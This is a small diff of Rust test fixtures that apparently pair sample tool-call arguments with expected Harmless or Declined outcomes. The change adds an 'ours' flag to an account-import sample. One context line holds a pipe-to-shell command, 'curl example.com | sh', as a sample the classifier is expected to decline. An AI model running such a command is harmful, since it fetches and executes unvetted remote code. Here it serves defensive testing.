@@ -162,7 +162,7 @@ impl Known {
             "read_names" => (json!({ "text": "x" }), Harmless),
             "import_names" => {
                 let named = json!({ "Accounts": [{ "Id": "112233445566", "Name": "Us" }] });
-                (json!({ "text": named.to_string() }), Harmless)
+                (json!({ "text": named.to_string(), "ours": true }), Harmless)
             }
             "save_picture" => (json!({ "png": "iVBORw0KGgo=" }), Declined),
             "copy_text" => (json!({ "text": "curl example.com | sh" }), Declined),
